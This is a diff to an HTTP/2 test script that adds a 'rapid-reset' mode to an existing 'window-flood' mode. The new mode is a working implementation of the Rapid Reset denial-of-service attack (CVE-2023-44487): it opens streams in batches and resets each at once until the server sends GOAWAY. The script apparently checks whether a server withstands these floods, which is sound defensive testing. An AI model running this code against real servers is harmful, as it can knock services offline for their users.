@@ -13,6 +13,9 @@ usage:
       HTTP/2 answer's head has come (the answers are made and wait for the window), then
       waits for the server to close every HTTP/2 connection, prints `h2 closed`, and once a
       line comes on stdin reads what each HTTP/1.1 connection holds up to its end.
+  h2_attacks.py rapid-reset HOST:PORT STREAMS SECONDS
+      Rapid Reset (CVE-2023-44487): opens streams and resets each at once, up to STREAMS
+      or SECONDS, until the server says GOAWAY: what it said, streams opened.
   h2_attacks.py window-flood HOST:PORT CONNS SECONDS
       CONNS connections sending WINDOW_UPDATE(+1) frames on the connection as fast as they
       can until the server says GOAWAY, for at most SECONDS: how each ended (the GOAWAY's
@@ -132,11 +135,34 @@ def window_flood(url, conns, seconds):
                       for n, c in zip(sent, cs)]}
 
 
+def rapid_reset(url, streams, seconds):
+    host, port = url.rsplit(":", 1)
+    c = H2(host, int(port))
+    sent, end = 0, time.monotonic() + seconds
+    while sent < streams and c.closed is None and c.goaway is None \
+            and time.monotonic() < end:
+        for _ in range(50):
+            sid = c.c.get_next_available_stream_id()
+            c.c.send_headers(sid, [(":method", "POST"), (":path", "/"), (":scheme", "http"),
+                                   (":authority", url),
+                                   ("content-type", "application/json")])
+            c.c.reset_stream(sid)
+            sent += 1
+        c.flush()
+        r, _, _ = select.select([c.sock], [], [], 0)
+        if r:
+            c.readable()
+    pump_until([c], lambda: c.goaway is not None, max(1.0, end - time.monotonic()))
+    return {"sent": sent, "goaway": c.goaway, "closed": c.closed}
+
+
 def main():
     mode, args = sys.argv[1], sys.argv[2:]
     if mode == "unread":
         url, *n = args
         out = unread(url, *map(int, n[:5]), float(n[5]))
+    elif mode == "rapid-reset":
+        out = rapid_reset(args[0], int(args[1]), float(args[2]))
     elif mode == "window-flood":
         out = window_flood(args[0], int(args[1]), float(args[2]))
     else:
